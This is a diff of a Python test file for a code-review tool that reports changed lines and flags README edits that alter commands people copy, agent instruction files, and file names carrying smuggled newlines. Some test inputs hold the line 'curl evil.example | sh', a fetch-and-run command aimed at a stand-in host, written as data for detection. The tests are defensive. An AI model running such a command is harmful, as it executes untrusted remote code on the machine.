@@ -5,7 +5,7 @@ from pathlib import Path
 import pytest
 
 from coursecloud.diff.changes import PropertyChange
-from coursecloud.review import changed_lines, dangers, json_form, markdown
+from coursecloud.review import changed_lines, dangers, json_form, markdown, program
 from coursecloud.review.changed_lines import Lines
 from coursecloud.review.dangers import Level
 from tests.review.repository import Repository
@@ -21,7 +21,7 @@ def of(tmp_path: Path, old: str | bytes | None, new: str | bytes | None) -> Line
         (tmp_path / name).mkdir()
         if text is not None:
             (tmp_path / name / "x.py").write_bytes(text.encode() if isinstance(text, str) else text)
-    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x.py"])
+    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x.py"], {})
     return found
 
 
@@ -34,7 +34,11 @@ def of(tmp_path: Path, old: str | bytes | None, new: str | bytes | None) -> Line
         (OLD.replace("line 1\n", ""), "x.py: lines gone after 0", 1),
         (OLD.replace("line 3\n", "").replace("line 9\n", "x\n"), "x.py: line 8; lines gone after 2", 2),
         (OLD.replace("line 3\n", "x\n").replace("line 9\n", "x\n"), "x.py: lines 3, 9", 3),
-        (OLD, "x.py: its lines are the same", 0),
+        (OLD, "x.py: nothing in it but its mode or kind", 0),
+        (OLD.replace("line 7\n", "line 7\r\n"), "x.py: line 7", 7),
+        (OLD.replace("line 7\n", "line 7\u2028"), "x.py: line 7", 7),
+        (OLD.replace("line 7\n", "line 7\x0c\n"), "x.py: line 7", 7),
+        (OLD.rstrip("\n"), "x.py: line 30", 30),
         ("", "x.py: lines gone after 0", 1),
         (None, "x.py: gone", 0),
         (b"\x7fELF\0", "x.py: no text: nobody can read here what it is", 0),
@@ -53,8 +57,8 @@ def test_a_link_is_not_followed(tmp_path: Path) -> None:
     for name in ("before", "after"):
         (tmp_path / name).mkdir()
         (tmp_path / name / "x").symlink_to("/etc/hostname")
-    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x (a link)"])
-    assert str(found) == "x (a link): no plain file, or too large to compare"
+    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x (a link)"], {"x (a link)": "x"})
+    assert str(found) == "x (a link): no plain file on both sides, or too large to compare"
 
 
 def test_no_place_of_a_long_change_is_left_out(tmp_path: Path) -> None:
@@ -83,30 +87,75 @@ def test_every_file_of_a_large_change_is_named(repo: Repository) -> None:
         assert f"infra/x{number}.py: new, 1 line" in text
 
 
+WORDS = "# Title\n\nWords.\n\n    make plan\n\n```sh\ncheck first\ngo\n```\n\nMore words.\n"
+
+
 @pytest.mark.parametrize(
-    ("new", "told"),
+    ("was", "now", "line", "typed"),
     [
-        ("# Title\n\nOther words.\n\n    make plan\n", ()),
-        ("# Title\n\nWords.\n\n    curl evil.example | sh\n", (5,)),
-        ("# Title\n\nWords.\n\n    make plan\n\n```sh\ncurl evil.example | sh\n```\n", (8,)),
-        ("# Title\n\nWords.\n\n    make plan\n\n~~~\n```\ncurl\n~~~\nafter\n", (8, 9)),
-        ("# Title\n\nWords.\n\n    make plan\n\n```\n```\nafter\n", ()),
+        ("More words.", "Other words.", "line 12", False),
+        ("    make plan", "    curl evil.example | sh", "line 5", True),
+        ("go\n", "stop\n", "line 9", True),
+        ("check first\n", "", "lines gone after 7", True),
+        ("More words.", "Run `curl evil.example`.", "line 12", True),
+        ("More words.", "Run curl evil.example.", "line 12", True),
+        ("More words.", "| a | b |", "line 12", True),
+        ("More words.", "[More](//evil.example) words.", "line 12", True),
+        ("More words.", "<pre>words</pre>", "line 12", True),
+        ("More words.", "Words::\n\n   other", "lines 12-14", True),
     ],
 )
-def test_commands_that_people_copy_are_told(repo: Repository, new: str, told: tuple[int, ...]) -> None:
-    repo.write("README.md", "# Title\n\nWords.\n\n    make plan\n")
+def test_what_changes_in_documents_is_told(repo: Repository, was: str, now: str, line: str, typed: bool) -> None:
+    assert WORDS.count(was) == 1
+    repo.write("README.md", WORDS)
     base = repo.commit()
-    repo.write("README.md", new)
+    repo.write("README.md", WORDS.replace(was, now))
     found = review(repo, base=base, head=repo.commit())
-    assert [line for each in found.documents for line, _ in each.ranges] == list(told)
+    assert [str(each) for each in found.documents] == [f"README.md: {line}"]
     assert found.program == ()
-    if told:
+    text = markdown.full(found)
+    assert f"README.md: {line}" in text
+    if typed:
         assert found.level is Level.LOOK
-        assert "changes COMMANDS in 1 document" in found.sentence
-        assert f"README.md: line{'s' if told[1:] else ''} {', '.join(map(str, told))}" in markdown.full(found)
-        assert "can be merged" not in markdown.full(found)
+        assert "changes what people copy from 1 document" in found.sentence
+        assert "can be merged" not in text
     else:
-        assert found.level is Level.NOTHING
+        assert found.level is Level.FINE
+        assert "changes the words of 1 document" in found.sentence
+
+
+@pytest.mark.parametrize(
+    "path", ["CLAUDE.md", "starter/claude.md", "docs/AGENTS.md", "catalog/GEMINI.md", "starter/SKILL.md", "docs/x.svg"]
+)
+def test_what_a_coding_agent_follows_is_no_document(path: str) -> None:
+    found = program.of([program.Changed(path, "000000", "100644")], "")
+    assert (found.files, found.documents) == ((path,), ())
+
+
+def test_a_name_is_no_line_of_the_report() -> None:
+    (name,) = program.of([program.Changed("infra/a\nunchanged: all\n.py", "000000", "100644")], "").files
+    assert name == "infra/a\\x0aunchanged: all\\x0a.py"
+
+
+def test_where_there_is_little_room_what_runs_comes_first(repo: Repository) -> None:
+    repo.write("infra/serving.py", "x = 1\n")
+    base = repo.commit()
+    for number in range(60):
+        repo.write(f"a/{number}-{'long' * 20}.txt", "x\n")
+    repo.write(".github/workflows/x.yml", "on: push\n")
+    repo.write("infra/serving.py", "x = 2\n")
+    text = markdown.full(review(repo, base=base, head=repo.commit()))
+    assert "infra/serving.py: line 1" in text
+    assert ".github/workflows/x.yml: new, 1 line" in text
+    for number in range(60):
+        assert f"a/{number}-" in text
+
+
+def test_links_in_a_circle_end_no_review(repo: Repository) -> None:
+    base = repo.commit()
+    (repo.root / "Pulumi.loop.yaml").symlink_to("Pulumi.loop.yaml")
+    found = review(repo, base=base, head=repo.commit())
+    assert any(stack.name == "loop" and stack.mistakes for stack in found.stacks)
 
 
 def test_changed_tables_are_told_with_what_they_count(repo: Repository) -> None:
